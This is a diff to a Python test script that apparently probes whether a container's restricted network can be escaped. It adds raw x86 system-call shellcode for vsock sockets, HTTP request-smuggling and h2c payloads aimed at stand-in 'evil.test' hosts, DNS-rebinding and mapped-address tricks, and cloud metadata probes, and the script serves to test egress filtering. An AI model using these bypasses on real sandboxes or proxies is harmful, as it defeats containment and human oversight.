@@ -1,11 +1,15 @@
 """Inside of a container with --allow-net: ways out that are none. Prints what came of each, as JSON by name."""
 
+import ctypes
 import json
+import mmap
 import os
+import platform
 import socket
 import ssl
 import struct
 import subprocess
+import time
 
 os.environ["PATH"] += ":/usr/sbin:/sbin"
 ANYTHING = ssl._create_unverified_context()
@@ -109,6 +113,47 @@ def vsock() -> str:
     return "a socket"
 
 
+def vsock_32(call: int, *arguments: int) -> str:
+    """As 32-bit programs make sockets: their system calls' registers, and for socketcall(2) an array below 4 GiB."""
+    if platform.machine() != "x86_64":
+        raise OSError("no such calls")
+    memory = mmap.mmap(-1, 4096, flags=0x62, prot=7)  # PRIVATE, ANONYMOUS, 32BIT
+    base = ctypes.addressof(ctypes.c_char.from_buffer(memory))
+    memory[2048:2060] = struct.pack("<3I", 40, 1, 0)
+    ebx, ecx, edx = [base + 2048 if a < 0 else a for a in arguments]
+    registers = ((0xB8, call), (0xBB, ebx), (0xB9, ecx), (0xBA, edx))
+    loads = [struct.pack("<BI", load, value) for load, value in registers]
+    memory[:25] = b"\x53" + b"".join(loads) + b"\xcd\x80\x5b\xc3"
+    made = ctypes.CFUNCTYPE(ctypes.c_int)(base)()
+    if made < 0:
+        raise OSError(-made, os.strerror(-made))
+    return "a socket"
+
+
+def second_request(to: str, first: str, then: bytes) -> str:
+    """What comes back of the second of two in one connection."""
+    with socket.create_connection((to, 80), 10) as s:
+        s.sendall(first.replace("\n", "\r\n").encode() + then)
+        head = s.recv(1000)
+        while more := s.recv(1000):
+            head += more
+        return "the end" if head.count(b"200 OK") == 1 else f"{head!r}"
+
+
+def turns() -> str:
+    """A name that leads elsewhere once it was looked at."""
+    asked = "GET / HTTP/1.1\nHost: turns.test\n\n"
+    http("turns.test", asked)
+    deadline = time.monotonic() + 20
+    while time.monotonic() < deadline:
+        try:
+            http("turns.test", asked)
+        except OSError as e:
+            return f"failed: {e}"
+        time.sleep(0.2)
+    return "no change"
+
+
 def command(*words: str) -> None:
     subprocess.run(words, check=True, capture_output=True)
 
@@ -183,6 +228,31 @@ ATTEMPTS = {
     "injected": lambda: injected(EVIL),
     "ICMP": lambda: ping(EVIL),
     "vsock": vsock,
+    "vsock, 32 bits": lambda: vsock_32(359, 40, 1, 0),
+    "vsock, socketcall": lambda: vsock_32(102, 1, -1, 0),
+    "qrtr": lambda: str(socket.socket(42, socket.SOCK_DGRAM)),
+    "mapped address": lambda: tls(f"::ffff:{EVIL}", 443, "pypi.test"),
+    "SNI with a dot": lambda: split_hello("pypi.test.", "pypi.test"),
+    "second request": lambda: second_request("pypi.test", "GET / HTTP/1.1\nHost: pypi.test\n\n",
+                                             b"GET / HTTP/1.1\r\nHost: second.evil.test\r\n\r\n"),
+    "behind a body": lambda: second_request("pypi.test", "POST / HTTP/1.1\nHost: pypi.test\nContent-Length: 3\n\n",
+                                            b"GETGET / HTTP/1.1\r\nHost: body.evil.test\r\n\r\n"),
+    "behind chunks": lambda: second_request("pypi.test",
+                                            "POST / HTTP/1.1\nHost: pypi.test\nTransfer-Encoding: chunked\n\n",
+                                            b"3\r\nGET\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: chunks.evil.test\r\n\r\n"),
+    "two lengths": lambda: http("pypi.test", "POST / HTTP/1.1\nHost: pypi.test\nContent-Length: 0\n"
+                                             "Transfer-Encoding: chunked\n\n"),
+    "h2c": lambda: second_request("files.pythonhosted.test",
+                                  "GET / HTTP/1.1\nHost: files.pythonhosted.test\nUpgrade: h2c\n"
+                                  "Connection: Upgrade, HTTP2-Settings\nHTTP2-Settings: \n\n",
+                                  b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
+    "host by its second address": lambda: http("second.test", "GET / HTTP/1.1\nHost: second.test\n\n"),
+    "host by routers' address": lambda: http("shared.test", "GET / HTTP/1.1\nHost: shared.test\n\n"),
+    "a name of 0.0.0.0": lambda: http("zero.test", "GET / HTTP/1.1\nHost: zero.test\n\n"),
+    "a name of loopback": lambda: http("loop.test", "GET / HTTP/1.1\nHost: loop.test\n\n"),
+    "a name of a mapped address": lambda: http("mapped.test", "GET / HTTP/1.1\nHost: mapped.test\n\n"),
+    "a name of a bridge": lambda: http("gateway.test", "GET / HTTP/1.1\nHost: gateway.test\n\n"),
+    "a name that turns": turns,
     "metadata": lambda: talk(METADATA, 80),
     "metadata by name": lambda: http("meta.test", "GET / HTTP/1.1\nHost: meta.test\n\n"),
     "host": lambda: talk(HOST, 80),
